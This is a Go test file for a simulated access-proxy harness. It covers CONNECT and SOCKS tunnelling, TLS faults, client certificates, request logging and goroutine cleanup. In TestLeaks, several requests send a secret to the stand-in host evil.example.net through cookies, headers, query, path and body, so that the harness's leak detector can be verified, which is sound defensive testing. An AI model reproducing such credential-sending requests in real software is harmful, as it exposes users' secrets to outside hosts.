package accesstest_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/gitaccess/gitaccess/access/accesstest"
)

// connect asks the proxy for a tunnel.
func connect(t *testing.T, srv *accesstest.Server, target string, headers ...string) (*http.Response, net.Conn) {
	t.Helper()
	u, _ := url.Parse(srv.ProxyURL())
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	req := &http.Request{Method: "CONNECT", URL: &url.URL{Opaque: target}, Host: target, Header: http.Header{}}
	for i := 0; i < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	if err := req.Write(conn); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), req)
	if err != nil {
		t.Fatal(err)
	}
	return resp, conn
}

func TestProxy(t *testing.T) {
	e, srv, c := edge(t, nil)
	e.AddApp(accesstest.App{Host: host, Bypass: true, Origin: who})
	echo := tcpOrigin(t, func(c net.Conn) { io.Copy(c, c) })
	login := "Basic " + base64.StdEncoding.EncodeToString([]byte("ada:proxy-secret"))
	for _, tc := range []struct {
		name, target, login string
		set                 accesstest.Switches
		want                int
	}{
		{"a host", host + ":443", "", accesstest.Switches{}, 200},
		{"any name", "unknown.example.net:443", "", accesstest.Switches{}, 200},
		{"another port", host + ":22", "", accesstest.Switches{}, 403},
		{"another port that is asked for", host + ":8443", "", accesstest.Switches{ProxyPorts: []int{8443}}, 200},
		{"loopback", echo, "", accesstest.Switches{}, 403},
		{"loopback that is asked for", echo, "", accesstest.Switches{ProxyLoopback: true}, 200},
		{"no login", host + ":443", "", accesstest.Switches{ProxyLogin: "ada:proxy-secret"}, 407},
		{"wrong login", host + ":443", login + "AA", accesstest.Switches{ProxyLogin: "ada:proxy-secret"}, 407},
		{"login", host + ":443", login, accesstest.Switches{ProxyLogin: "ada:proxy-secret"}, 200},
	} {
		e.Set(func(s *accesstest.Switches) { *s = tc.set })
		headers := []string{}
		if tc.login != "" {
			headers = []string{"Proxy-Authorization", tc.login}
		}
		if resp, _ := connect(t, srv, tc.target, headers...); resp.StatusCode != tc.want {
			t.Errorf("%s: %s, want %d", tc.name, resp.Status, tc.want)
		}
	}
	if leaks := e.Leaks("proxy-secret", "proxy"); leaks != nil {
		t.Errorf("the proxy's login went further: %v", leaks)
	}
	if leaks := e.Leaks("proxy-secret"); len(leaks) != 1 || leaks[0].Host != "proxy" {
		t.Errorf("%v", leaks)
	}

	e.Set(func(s *accesstest.Switches) { *s = accesstest.Switches{ProxyLoopback: true} })
	resp, conn := connect(t, srv, echo)
	if _, err := io.WriteString(conn, "through"); resp.StatusCode != 200 || err != nil {
		t.Fatal(resp.Status, err)
	}
	b := make([]byte, 7)
	if _, err := io.ReadFull(conn, b); err != nil || string(b) != "through" {
		t.Errorf("%q %v", b, err)
	}

	// In clear there is nothing but the way to https.
	if resp, _ := ask(t, c, "GET", "http://"+host+"/x?y=z"); resp.StatusCode != 301 || resp.Header.Get("Location") != "https://"+host+"/x?y=z" {
		t.Errorf("%s to %s", resp.Status, resp.Header.Get("Location"))
	}
	if r := e.Requests(accesstest.ToPath("/x")); len(r) != 1 || r[0].Scheme != "http" {
		t.Errorf("%v", r)
	}
}

func TestSOCKS(t *testing.T) {
	e, srv, _ := edge(t, nil)
	e.AddApp(accesstest.App{Host: host, Bypass: true, Origin: who})
	link, err := srv.StartSOCKS()
	if err != nil {
		t.Fatal(err)
	}
	plain := httptest.NewServer(who)
	defer plain.Close()
	for _, tc := range []struct {
		name, login, target string
		set                 accesstest.Switches
		want                string // part of the error, empty for none
	}{
		{"a host", "", "https://" + host + "/", accesstest.Switches{}, ""},
		{"another port", "", "https://" + host + ":22/", accesstest.Switches{}, "not allowed"},
		{"loopback", "", plain.URL, accesstest.Switches{}, "not allowed"},
		{"loopback that is asked for", "", plain.URL, accesstest.Switches{ProxyLoopback: true}, ""},
		{"no login", "", "https://" + host + "/", accesstest.Switches{ProxyLogin: "ada:pw"}, "no acceptable authentication methods"},
		{"wrong login", "ada:no@", "https://" + host + "/", accesstest.Switches{ProxyLogin: "ada:pw"}, "username/password"},
		{"login", "ada:pw@", "https://" + host + "/", accesstest.Switches{ProxyLogin: "ada:pw"}, ""},
	} {
		e.Set(func(s *accesstest.Switches) { *s = tc.set })
		u, _ := url.Parse(strings.Replace(link, "://", "://"+tc.login, 1))
		tr := srv.Transport()
		tr.Proxy = http.ProxyURL(u)
		resp, err := (&http.Client{Transport: tr}).Get(tc.target)
		switch {
		case tc.want == "" && (err != nil || resp.StatusCode != 200):
			t.Errorf("%s: %v %v", tc.name, resp, err)
		case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
			t.Errorf("%s: %v, want %s", tc.name, err, tc.want)
		}
		if resp != nil {
			resp.Body.Close()
		}
		tr.CloseIdleConnections()
	}
	if c := e.Connections(host); len(c) != 2 || c[0].Target != host+":443" || c[0].SNI != host {
		t.Errorf("%+v", c)
	}
}

func TestTLSFaults(t *testing.T) {
	e, srv, _ := edge(t, nil)
	e.AddApp(accesstest.App{Host: host, Bypass: true, Origin: who})
	e.AddApp(accesstest.App{Host: "good.example.com", Bypass: true, Origin: who})
	for fault, want := range map[accesstest.TLSFault]string{
		accesstest.TLSExpired: "expired", accesstest.TLSOtherName: "wrong.example.org", accesstest.TLSUnknownCA: "unknown authority", accesstest.TLSGenuine: "",
	} {
		e.SetTLS(host, fault)
		for name, want := range map[string]string{host: want, "good.example.com": ""} {
			tr := srv.Transport()
			resp, err := (&http.Client{Transport: tr}).Get("https://" + name + "/")
			if err == nil {
				resp.Body.Close()
			}
			if (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
				t.Errorf("fault %d at %s: %v, want %q", fault, name, err, want)
			}
			tr.CloseIdleConnections()
		}
	}
}

func TestClientCertificate(t *testing.T) {
	e, srv, _ := edge(t, nil)
	mint := func() (tls.Certificate, *x509.CertPool) {
		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		template := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
			ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}, IsCA: true, BasicConstraintsValid: true}
		der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
		if err != nil {
			t.Fatal(err)
		}
		cert, err := x509.ParseCertificate(der)
		if err != nil {
			t.Fatal(err)
		}
		pool := x509.NewCertPool()
		pool.AddCert(cert)
		return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pool
	}
	mine, trusted := mint()
	foreign, _ := mint()
	app := e.AddApp(accesstest.App{Host: host, Allow: true, ClientCAs: trusted, Origin: who})
	e.AddApp(accesstest.App{Host: "plain.example.com", Bypass: true, Origin: who})
	for _, tc := range []struct {
		name  string
		certs []tls.Certificate
		want  int
	}{{"none", nil, 403}, {"mine", []tls.Certificate{mine}, 200}, {"another authority's", []tls.Certificate{foreign}, 403}} {
		for _, h2 := range []bool{true, false} {
			tr := srv.Transport()
			tr.TLSClientConfig.Certificates, tr.ForceAttemptHTTP2 = tc.certs, h2
			resp, _ := ask(t, &http.Client{Transport: tr}, "GET", "https://"+host+"/", "cf-access-token", app.Token("ada@example.com"))
			if resp.StatusCode != tc.want || (resp.ProtoMajor == 2) != h2 {
				t.Errorf("%s: %s by %s, want %d", tc.name, resp.Status, resp.Proto, tc.want)
			}
			tr.CloseIdleConnections()
		}
	}
}

func TestKeepRequests(t *testing.T) {
	e, _, c := edge(t, &accesstest.Options{KeepRequests: 2, KeepBody: -1})
	for _, path := range []string{"/1", "/2", "/3"} {
		resp, err := c.Post("https://"+host+path, "text/plain", strings.NewReader("secret body"))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	if got := e.Requests(); len(got) != 2 || got[0].Path != "/2" || got[1].Path != "/3" {
		t.Errorf("%v", got)
	}
	if leaks := e.Leaks("secret body"); leaks != nil {
		t.Errorf("kept: %v", leaks)
	}
}

func TestDirectTLS(t *testing.T) {
	e, srv, _ := edge(t, nil)
	e.AddApp(accesstest.App{Host: host, Bypass: true, Origin: who})
	conn, err := tls.Dial("tcp", srv.Addr(), &tls.Config{RootCAs: srv.Pool(), ServerName: host, NextProtos: []string{"h2", "http/1.1"}})
	if err != nil {
		t.Fatal(err)
	}
	state := conn.ConnectionState()
	conn.Close()
	if state.NegotiatedProtocol != "h2" {
		t.Errorf("protocol %q", state.NegotiatedProtocol)
	}
	der, err := x509.MarshalPKIXPublicKey(state.PeerCertificates[0].PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := base64.StdEncoding.DecodeString(srv.SPKI()); err != nil || len(got) != 32 || len(der) == 0 {
		t.Errorf("SPKI %q, %v", srv.SPKI(), err)
	}
	if got := e.Connections(host); len(got) != 1 || got[0].SNI != host || got[0].Target != "" {
		t.Errorf("%+v", got)
	}
	for _, addr := range []string{"0.0.0.0:0", "192.0.2.1:0", "nonsense"} {
		if s, err := e.Listen(addr, "127.0.0.1:0"); err == nil {
			s.Close()
			t.Errorf("listens at %s", addr)
		}
	}
}

// TestCountsConnections is what tests of clients rely on.
func TestCountsConnections(t *testing.T) {
	e, srv, c := edge(t, nil)
	e.AddApp(accesstest.App{Host: host, Bypass: true, Origin: who})
	for range 3 {
		ask(t, c, "GET", "https://"+host+"/")
	}
	if n := len(e.Connections(host)); n != 1 {
		t.Errorf("%d connections for three requests of one client", n)
	}
	another := srv.Transport()
	defer another.CloseIdleConnections()
	ask(t, &http.Client{Transport: another}, "GET", "https://"+host+"/")
	conns, reqs := e.Connections(host), e.Requests(accesstest.ToHost(host), accesstest.ByProgram)
	if len(conns) != 2 || len(reqs) != 4 || reqs[0].Conn != conns[0].ID || reqs[3].Conn != conns[1].ID || conns[0].Target != host+":443" {
		t.Errorf("%v %v", conns, reqs)
	}
	if _, err := e.Person("ada@example.com").Visit(t.Context(), "https://"+host+"/"); err != nil {
		t.Fatal(err)
	}
	if n := len(e.Requests(accesstest.ByProgram)); n != 4 {
		t.Errorf("a person's request counts as a program's: %d", n)
	}
	e.ClearLog()
	if e.Requests() != nil || e.Connections("") != nil {
		t.Error("the log is not clear")
	}
}

func TestLeaks(t *testing.T) {
	e, srv, c := edge(t, nil)
	e.Handle("evil.example.net", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }))
	const secret = "s3cr/t+value="
	for where, send := range map[string]func() *http.Request{
		"header Cookie": func() *http.Request {
			r, _ := http.NewRequest("GET", "https://evil.example.net/", nil)
			r.Header.Set("Cookie", "a=b; CF_Authorization="+secret)
			return r
		},
		"header X-Any": func() *http.Request {
			r, _ := http.NewRequest("GET", "https://evil.example.net/", nil)
			r.Header.Add("X-Any", "one")
			r.Header.Add("X-Any", secret)
			return r
		},
		"header Authorization": func() *http.Request {
			r, _ := http.NewRequest("GET", "https://evil.example.net/", nil)
			r.SetBasicAuth("x", secret)
			return r
		},
		"query": func() *http.Request {
			r, _ := http.NewRequest("GET", "https://evil.example.net/?a="+url.QueryEscape(secret), nil)
			return r
		},
		"path": func() *http.Request {
			r, _ := http.NewRequest("GET", "https://evil.example.net/"+url.PathEscape(secret), nil)
			return r
		},
		"body": func() *http.Request {
			r, _ := http.NewRequest("POST", "https://evil.example.net/", strings.NewReader(url.Values{"a": {secret}}.Encode()))
			return r
		},
		"in clear": func() *http.Request {
			r, _ := http.NewRequest("GET", "http://evil.example.net/?a="+url.QueryEscape(secret), nil)
			return r
		},
	} {
		e.ClearLog()
		resp, err := c.Do(send())
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if leaks := e.Leaks(secret); len(leaks) != 1 || leaks[0].Where != where && where != "in clear" || leaks[0].Host != "evil.example.net" {
			t.Errorf("%s: found %v", where, leaks)
		}
		if leaks := e.Leaks(secret, "evil.example.net"); leaks != nil {
			t.Errorf("%s: %v at a host that may see it", where, leaks)
		}
		if leaks := e.Leaks("another secret"); leaks != nil {
			t.Errorf("%s: %v of nothing", where, leaks)
		}
	}
	_ = srv
}

func TestEnv(t *testing.T) {
	e, srv, _ := edge(t, nil)
	e.AddApp(accesstest.App{Host: host, Bypass: true, Origin: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "reached") })})
	curl := need(t, "curl", "curl")
	env, err := srv.Env(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), curl, "-sS", "https://"+host+"/")
	cmd.Env = append(os.Environ(), env...)
	if out, err := cmd.CombinedOutput(); err != nil || string(out) != "reached" {
		t.Errorf("%s %v", out, err)
	}
}

// TestCloseLeavesNothing ends an edge amid everything it can be doing and looks
// for goroutines of this package.
func TestCloseLeavesNothing(t *testing.T) {
	e := accesstest.New(nil)
	app := e.AddApp(accesstest.App{Host: sshHost, Allow: true, TCP: accesstest.DialTCP(tcpOrigin(t, func(c net.Conn) { io.Copy(c, c) }))})
	e.AddApp(accesstest.App{Host: "slow.example.com", Bypass: true, Origin: who, Delay: time.Hour})
	e.Set(func(s *accesstest.Switches) { s.ProxyLoopback = true })
	srv, err := e.Start()
	if err != nil {
		t.Fatal(err)
	}
	conn, br := rawUpgrade(t, srv, sshHost, http.Header{"Cf-Access-Token": {app.Token("ada@example.com")}})
	conn.Write(frame(0x82, []byte("x"), [4]byte{}))
	readFrame(t, br)
	frozen, br2 := rawUpgrade(t, srv, sshHost, http.Header{"Cf-Access-Token": {app.Token("ada@example.com")}})
	frozen.Write(frame(0x82, []byte("x"), [4]byte{}))
	readFrame(t, br2)
	for _, r := range e.Relays() {
		r.Freeze()
	}
	connect(t, srv, tcpOrigin(t, func(c net.Conn) { io.Copy(c, c) }))
	connect(t, srv, sshHost+":443") // and no handshake
	tr := srv.Transport()
	defer tr.CloseIdleConnections()
	client := &http.Client{Transport: tr}
	hanging := make(chan error, 2)
	for _, link := range []string{"https://login.cloudflareaccess.org/transfer/" + strings.Repeat("A", 43) + "=", "https://slow.example.com/"} {
		go func() {
			req, _ := http.NewRequestWithContext(context.Background(), "GET", link, nil)
			resp, err := client.Do(req)
			if err == nil {
				resp.Body.Close()
			}
			hanging <- err
		}()
		u, _ := url.Parse(link)
		if _, err := e.Await(t.Context(), accesstest.ToHost(u.Host)); err != nil {
			t.Fatal(err)
		}
	}
	e.Close()
	<-hanging
	<-hanging
	// A goroutine that has done its work may need a moment to be gone.
	var left string
	for range 500 {
		if left = ours(); left == "" {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Errorf("left over:\n%s", left)
}

// TestCloseEndsPolls: a person inside the process has no connection to lose.
func TestCloseEndsPolls(t *testing.T) {
	e := accesstest.New(nil)
	ended := make(chan error, 1)
	go func() {
		page, err := e.Person("ada@example.com").Visit(context.Background(), "https://login.cloudflareaccess.org/transfer/"+strings.Repeat("A", 43)+"=")
		if err == nil && page.Status != 503 {
			err = fmt.Errorf("status %d", page.Status)
		}
		ended <- err
	}()
	if _, err := e.Await(t.Context(), accesstest.ToHost("login.cloudflareaccess.org")); err != nil {
		t.Fatal(err)
	}
	e.Close()
	if err := <-ended; err != nil {
		t.Error(err)
	}
}

// ours are the stacks of goroutines in this package that are no tests.
func ours() string {
	b := make([]byte, 1<<20)
	b = b[:runtime.Stack(b, true)]
	var found []string
	for g := range bytes.SplitSeq(b, []byte("\n\n")) {
		s := string(g)
		if strings.Contains(s, "/access/accesstest.") && !strings.Contains(s, "_test.go") {
			found = append(found, s)
		}
	}
	return strings.Join(found, "\n\n")
}
